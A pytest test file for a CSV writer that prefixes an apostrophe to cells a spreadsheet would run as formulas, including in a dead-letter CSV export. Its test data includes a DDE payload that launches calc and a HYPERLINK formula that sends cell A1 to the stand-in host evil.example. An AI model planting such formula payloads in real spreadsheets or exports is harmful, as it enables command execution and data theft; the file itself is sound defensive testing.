"""Issue #13: a CSV cell that a spreadsheet would run as a formula gets a leading apostrophe, in the
dead-letter CSV and wherever CSV is written (one writer, api/csv.py)."""

from __future__ import annotations

import csv
import io

import pytest

from noiselab.api.csv import csv_writer, safe_cell
from tests.api.conftest import Api

HOSTILE = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", '=HYPERLINK("http://x")']


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["abc", "a=b", "", "'=quoted already", "ok-", 58.2, -3.5, 0, None, True])
def test_other_cells_are_left_alone(value: object) -> None:
    expected = "" if value is None else "true" if value is True else value
    assert safe_cell(value) == expected


def test_the_writer_escapes_every_cell_and_round_trips() -> None:
    buf = io.StringIO()
    writer = csv_writer(buf)
    writer.writerow(["h1", "h2"])
    writer.writerows([[t, -1.5] for t in HOSTILE])
    writer.writerow(["a\rb", "c\nd"])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows[0] == ["h1", "h2"]
    assert [r[0] for r in rows[1:-1]] == ["'" + t for t in HOSTILE]
    assert all(r[1] == "-1.5" for r in rows[1:-1])
    assert rows[-1] == ["a\rb", "c\nd"]  # line breaks inside cells are quoted, never split a row


def test_dead_letter_csv_neutralises_a_formula_body(api: Api) -> None:
    body = b'=HYPERLINK("http://evil.example/?"&A1,"click")'
    resp = api.client.post(
        "/v1/readings", content=body, headers={"X-API-Key": api.keys["vendor"], "Content-Type": "text/csv"}
    )
    assert resp.status_code == 422
    text = api.get("/v1/dead-letters?format=csv&limit=1000", "engineer").text
    rows = list(csv.DictReader(io.StringIO(text)))
    raws = [r["raw"] for r in rows if "HYPERLINK" in r["raw"]]
    assert raws == ["'" + body.decode()]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
